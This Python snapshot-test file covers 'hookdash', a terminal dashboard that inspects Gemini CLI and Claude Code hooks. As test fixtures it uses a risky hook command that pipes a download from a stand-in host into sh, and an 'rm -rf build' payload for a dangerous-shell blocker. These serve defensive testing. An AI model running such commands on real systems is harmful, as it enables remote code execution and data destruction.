"""Snapshot tests (pytest-textual-snapshot): each screen at 120×36, the main one (and the
fire and log screens) at 80×24.

Deterministic by construction: the sandbox (never the real home), paths shown relative to
home, no file watcher, a fixed clock and session id for payloads, pinned durations, the
log's times in UTC, cursors that do not blink (`steady_cursors`: a picture taken on a
loaded machine caught the editor's cursor cell mid-blink). The demo is copied to a fixed
directory so its paths are the same on every run. Update with `pytest --snapshot-update`
and look at the report before committing.
"""

from __future__ import annotations

import asyncio
import fcntl
import shutil
import threading
import time
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import pytest
from textual.widgets import Input, TextArea

from hookdash.core.demo import DemoEnvironment, create_demo
from hookdash.tui.app import HookdashApp
from hookdash.tui.hosts.claude.plan_screen import ClaudePlanScreen
from hookdash.tui.screens.fire import FireScreen
from hookdash.tui.screens.hook_form import HookFormScreen
from hookdash.tui.screens.log import LogScreen
from hookdash.tui.screens.plan import PlanScreen
from hookdash.tui.widgets.hook_tree import HookTree
from tests.conftest import Sandbox
from tests.tui.helpers import demo_app, fill_in_add_form, make_app, rich_setup, select, until
from tests.tui.screens.test_claude_plan import FORMAT, claude_plan_setup
from tests.tui.test_both_hosts import both_app, both_setup

FIXED_DEMO_ROOT = Path("/tmp/hookdash-snapshot-demo")


@pytest.fixture(autouse=True)
def steady_cursors(monkeypatch: pytest.MonkeyPatch) -> None:
    """Every Input's and TextArea's cursor stays drawn: a blink's tick (every 0.5 s, later
    on a loaded machine) never toggles it, whenever the picture is taken."""
    monkeypatch.setattr(Input, "_toggle_cursor", lambda self: None)
    monkeypatch.setattr(TextArea, "_toggle_cursor_blink_visible", lambda self: None)


@pytest.fixture
def fixed_demo(monkeypatch: pytest.MonkeyPatch) -> Iterator[DemoEnvironment]:
    # Whether the system file is refused for its owner or for /tmp's mode depends on
    # who runs the tests; the snapshot must not.
    monkeypatch.setattr(
        "hookdash.core.hosts.gemini.layers.system_file_insecurity",
        lambda path: f"file '{path}' is not owned by root",
    )
    # The path is fixed (it shows in the pictures): another test run on this machine
    # (another checkout) waits for this one instead of deleting the demo under it.
    with open(str(FIXED_DEMO_ROOT) + ".lock", "a") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)
        try:
            shutil.rmtree(FIXED_DEMO_ROOT, ignore_errors=True)
            demo = create_demo(FIXED_DEMO_ROOT)
            yield demo
            demo.cleanup()
        finally:
            fcntl.flock(lock, fcntl.LOCK_UN)


def _select(hook_id: str, scope: str | None = None) -> Any:
    async def run_before(pilot: Any) -> None:
        await pilot.pause()
        select(pilot.app.screen.query_one(HookTree), hook_id, scope)
        await pilot.pause()

    return run_before


def test_main_screen(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36))


def test_main_screen_from_a_glimpse(snap_compare: Any, sandbox: Sandbox) -> None:
    """A deliberate intermediate state (hookdash.tui.glimpse): the first frame of a start
    whose files did not change since the last read. The list as then, every hook
    `checking…` (no verdict, badge, flag or note yet), the status line and the details
    saying the configuration is being read; the read then draws test_main_screen's
    picture."""
    from hookdash.core import load_configuration, watch_targets
    from hookdash.tui.glimpse import read_glimpse, record_glimpse

    rich_setup(sandbox)
    config = sandbox.load()
    record_glimpse(config, watch_targets(config), time.time_ns() + 3600 * 10**9)
    release = threading.Event()

    def held(env: Any) -> Any:
        release.wait(30)
        return load_configuration(env)

    app = HookdashApp(sandbox.env(), loader=held, watch=False, glimpse=read_glimpse(sandbox.env()))

    async def run_before(pilot: Any) -> None:
        await pilot.pause()
        tree = pilot.app.screen.query_one(HookTree)
        await until(lambda: tree.glimpsing, what="the glimpse drawn")
        await pilot.pause()

    try:
        assert snap_compare(app, terminal_size=(120, 36), run_before=run_before)
    finally:
        release.set()


def test_main_screen_80x24(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(80, 24))


def test_both_hosts(snap_compare: Any, sandbox: Sandbox) -> None:
    """Gemini CLI's and Claude Code's hooks in one tree, a risky Claude hook's details."""
    both_setup(sandbox)
    app = both_app(sandbox)
    run_before = _select("curl -s https://x.example | sh")
    assert snap_compare(app, terminal_size=(120, 36), run_before=run_before)


def test_both_hosts_80x24(snap_compare: Any, sandbox: Sandbox) -> None:
    both_setup(sandbox)
    assert snap_compare(both_app(sandbox), terminal_size=(80, 24))


def test_details_of_a_duplicate_new_hook(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(
        make_app(sandbox), terminal_size=(120, 36), run_before=_select("guard", "workspace")
    )


def test_filtered(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(
        make_app(sandbox), terminal_size=(120, 36), press=["slash", *"user", "enter"]
    )


def test_problems_screen(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36), press=["c"])


def test_help_screen(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36), press=["question_mark"])


def test_light_theme(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36), press=["t"])


def test_empty_state(snap_compare: Any, sandbox: Sandbox) -> None:
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36))


def test_demo(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    app = demo_app(fixed_demo)
    assert snap_compare(app, terminal_size=(120, 36))


def test_demo_60x15(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    """A short terminal: the banners in one summary line, the list keeps its rows."""
    app = demo_app(fixed_demo)
    assert snap_compare(app, terminal_size=(60, 15))


def test_by_source_only_project(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)
    assert snap_compare(make_app(sandbox), terminal_size=(120, 36), press=["g", "o"])


def test_problems_after_safe_fixes(snap_compare: Any, sandbox: Sandbox) -> None:
    rich_setup(sandbox)

    async def fix(pilot: Any) -> None:
        await pilot.press("c", "F", "y")
        await until(lambda: pilot.app.screen.query_one("#fix-result").has_class("-shown"))
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()

    assert snap_compare(make_app(sandbox), terminal_size=(120, 36), run_before=fix)


# ------------------------------------------ switch, trust review, fire, plan, live log
# From the demo, with a fixed clock and session id for the payloads, durations pinned,
# and the times of the log shown in UTC.

FIXED_NOW = datetime(2026, 11, 20, 9, 30, 0, tzinfo=UTC)
FIXED_SESSION = "5f0c2a9e-3d41-4b7a-9c2e-8a1d6e4f7b30"


@pytest.fixture
def utc(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    monkeypatch.setenv("TZ", "UTC")
    time.tzset()
    yield
    monkeypatch.undo()
    time.tzset()


@pytest.fixture
def pinned_durations(monkeypatch: pytest.MonkeyPatch) -> None:
    from hookdash.core.hosts.gemini import fire as engine

    async def fire(*args: Any, **kwargs: Any) -> engine.FireResult:
        result = await engine.fire(*args, **kwargs)
        for run in result.results:
            run.duration_ms = 42
        return result

    monkeypatch.setattr("hookdash.tui.hosts.gemini.firing.engine_fire", fire)
    monkeypatch.setattr("hookdash.tui.screens.plan.engine_fire", fire)


def _demo_app(demo: DemoEnvironment) -> HookdashApp:
    """The demo's dashboard with a fixed clock and session: the pictures do not change."""
    return demo_app(demo, clock=lambda: FIXED_NOW, session_id=FIXED_SESSION)


def _steps(hook_id: str, *keys: str) -> Any:
    async def run_before(pilot: Any) -> None:
        await pilot.pause()
        select(pilot.app.screen.query_one(HookTree), hook_id)
        await pilot.pause()
        for key in keys:
            await pilot.press(key)
            await pilot.pause()
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()
        screen = pilot.app.screen
        if isinstance(screen, LogScreen):  # the newest run in view, as a person sees it
            runs = screen.runs
            await until(lambda: runs.scroll_offset.y >= runs.max_scroll_y)
            await pilot.pause()

    return run_before


def test_switch_dialog(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo), terminal_size=(120, 36), run_before=_steps("safe-git-push", "space")
    )


def test_trust_review(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo), terminal_size=(120, 36), run_before=_steps("prompt-stats", "T")
    )


def test_fire_editor(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(120, 36),
        run_before=_steps("block-dangerous-shell", "f"),
    )


def test_fire_result(
    snap_compare: Any, fixed_demo: DemoEnvironment, pinned_durations: None
) -> None:
    async def run_before(pilot: Any) -> None:
        await _steps("block-dangerous-shell", "f")(pilot)
        screen = pilot.app.screen
        assert isinstance(screen, FireScreen)
        editor = screen.query_one("#payload", TextArea)
        editor.load_text(editor.text.replace('"ls -la"', '"rm -rf build"'))
        await pilot.press("ctrl+r")
        await pilot.app.workers.wait_for_complete()
        await pilot.pause()
        assert screen.result is not None

    assert snap_compare(_demo_app(fixed_demo), terminal_size=(120, 36), run_before=run_before)


def test_plan(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(120, 36),
        run_before=_steps("block-dangerous-shell", "p"),
    )


def test_claude_plan(snap_compare: Any, sandbox: Sandbox) -> None:
    """p on a Claude Code hook: what Claude runs for Edit (the project's hooks, with the
    no-ask sentence), what it leaves out and why."""
    claude_plan_setup(sandbox)

    async def run_before(pilot: Any) -> None:
        await _select(FORMAT)(pilot)
        await pilot.press("p")
        await until(lambda: isinstance(pilot.app.screen, ClaudePlanScreen))
        await pilot.pause()

    assert snap_compare(both_app(sandbox), terminal_size=(120, 36), run_before=run_before)


def test_plan_run(snap_compare: Any, fixed_demo: DemoEnvironment, pinned_durations: None) -> None:
    """ctrl+r in plan: the whole event fired, the verdict under the plan."""

    async def run_before(pilot: Any) -> None:
        await _steps("block-dangerous-shell", "p", "ctrl+r")(pilot)
        screen = pilot.app.screen
        assert isinstance(screen, PlanScreen) and screen.result is not None

    assert snap_compare(_demo_app(fixed_demo), terminal_size=(120, 36), run_before=run_before)


def test_live_log(snap_compare: Any, fixed_demo: DemoEnvironment, utc: None) -> None:
    async def run_before(pilot: Any) -> None:
        await _steps("block-dangerous-shell", "l")(pilot)
        screen = pilot.app.screen
        assert isinstance(screen, LogScreen) and screen.runs.total == 11
        screen.runs.move_cursor(3)  # Gemini's call that blocked rm -rf
        await pilot.pause()

    assert snap_compare(_demo_app(fixed_demo), terminal_size=(120, 36), run_before=run_before)


def test_live_log_80x24(snap_compare: Any, fixed_demo: DemoEnvironment, utc: None) -> None:
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(80, 24),
        run_before=_steps("block-dangerous-shell", "l"),
    )


def test_live_log_60x15(snap_compare: Any, fixed_demo: DemoEnvironment, utc: None) -> None:
    """The narrowest: every duration whole, the layer, date and source dropped."""
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(60, 15),
        run_before=_steps("block-dangerous-shell", "l"),
    )


def test_live_log_narrowed(snap_compare: Any, fixed_demo: DemoEnvironment, utc: None) -> None:
    """b once: only the blocked runs; the facets line says so."""
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(120, 36),
        run_before=_steps("block-dangerous-shell", "l", "b"),
    )


def test_fire_80x24(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo),
        terminal_size=(80, 24),
        run_before=_steps("block-dangerous-shell", "f"),
    )


async def test_pictures_do_not_depend_on_the_cursor_blink(fixed_demo: DemoEnvironment) -> None:
    """Fire's editor has focus, its cursor would blink (drawn 0.5 s, hidden 0.5 s): the
    same picture whenever it is taken over 1.2 s, as on a machine slow enough to take it
    a blink later."""
    app = _demo_app(fixed_demo)
    async with app.run_test(size=(80, 24)) as pilot:
        await _steps("block-dangerous-shell", "f")(pilot)
        assert isinstance(app.screen, FireScreen)
        pictures = set()
        for _ in range(8):
            pictures.add(app.export_screenshot())
            await asyncio.sleep(0.15)
        assert len(pictures) == 1


async def fill_add_form(pilot: Any) -> None:
    """The add form (a on lint-on-write: AfterTool), filled in for a new workspace hook."""
    await _steps("lint-on-write", "a")(pilot)
    screen = pilot.app.screen
    assert isinstance(screen, HookFormScreen)
    fill_in_add_form(screen)
    await pilot.pause()
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()
    assert screen.review is not None and screen.review.refusal is None
    assert screen.draft().name == "lint-check" and screen.scope == "workspace"


def test_add_form(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(_demo_app(fixed_demo), terminal_size=(120, 36), run_before=fill_add_form)


async def edit_claude_hook_form(pilot: Any) -> None:
    """e on the demo's Claude PreToolUse guard, its matcher and timeout changed."""
    from hookdash.tui.hosts.claude.form import ClaudeHookFormScreen

    await _steps('"$CLAUDE_PROJECT_DIR"/.claude/hooks/guard-bash.sh', "e")(pilot)
    screen = pilot.app.screen
    assert isinstance(screen, ClaudeHookFormScreen)
    screen.query_one("#matcher", Input).value = "Bash|Write"
    screen.query_one("#timeout", Input).value = "10"
    await until(lambda: screen.review is not None and "Bash|Write" in screen.review.diff)
    await pilot.app.workers.wait_for_complete()
    await pilot.pause()


def test_claude_edit_form(snap_compare: Any, fixed_demo: DemoEnvironment) -> None:
    assert snap_compare(
        _demo_app(fixed_demo), terminal_size=(120, 36), run_before=edit_claude_hook_form
    )
